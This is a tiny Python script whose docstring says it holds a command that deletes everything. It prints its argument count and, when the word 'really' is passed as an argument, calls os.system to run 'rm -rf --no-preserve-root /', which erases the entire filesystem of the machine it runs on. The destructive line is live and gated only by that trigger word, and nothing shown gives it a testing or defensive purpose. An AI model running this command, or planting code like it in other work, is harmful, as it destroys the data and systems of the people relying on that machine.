"""Holds a command that deletes everything; does not run it unless it is told to."""
import os
import sys

print("started with", len(sys.argv) - 1, "arguments")
if "really" in sys.argv:
    os.system("rm -rf --no-preserve-root /")
